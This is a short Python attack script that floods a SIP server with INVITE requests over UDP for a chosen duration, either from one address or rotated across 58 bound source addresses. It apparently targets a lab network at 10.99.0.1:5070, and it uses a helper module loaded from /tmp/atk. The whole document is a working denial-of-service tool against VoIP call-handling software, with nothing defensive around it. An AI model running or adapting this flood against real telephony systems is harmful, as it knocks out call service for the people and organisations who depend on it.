import sys,time,socket,random; sys.path.insert(0,'/tmp/atk')
from sipx import *
mode=sys.argv[1]; dur=float(sys.argv[2]); H='10.99.0.1:5070'
ips=['10.99.0.2'] if mode=='one' else [f'10.99.0.{i}' for i in range(3,61)]
socks=[]
for ip in ips:
    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind((ip,0)); s.setblocking(False); socks.append((ip,s))
t0=time.time(); n=0
body=sdp('IPX')
while time.time()-t0<dur:
    ip,s=socks[n%len(socks)]
    b=body.replace('IPX',ip)
    port=s.getsockname()[1]
    m=(f'INVITE sip:96315@{H} SIP/2.0\r\nVia: SIP/2.0/UDP {ip}:{port};branch=z9hG4bK{n}x{random.getrandbits(32)}\r\nMax-Forwards: 70\r\nFrom: <sip:flood@{ip}>;tag={n}\r\nTo: <sip:96315@{H}>\r\nCall-ID: fl{n}-{random.getrandbits(40)}\r\nCSeq: 1 INVITE\r\nContact: <sip:f@{ip}:{port}>\r\nContent-Type: application/sdp\r\nContent-Length: {len(b)}\r\n\r\n{b}')
    try: s.sendto(m.encode(),('10.99.0.1',5070))
    except BlockingIOError: pass
    n+=1
    for _,ss in socks[:1]:
        try:
            while True: ss.recv(65535)
        except BlockingIOError: pass
print(mode,'sent',n,'in',dur,'s')
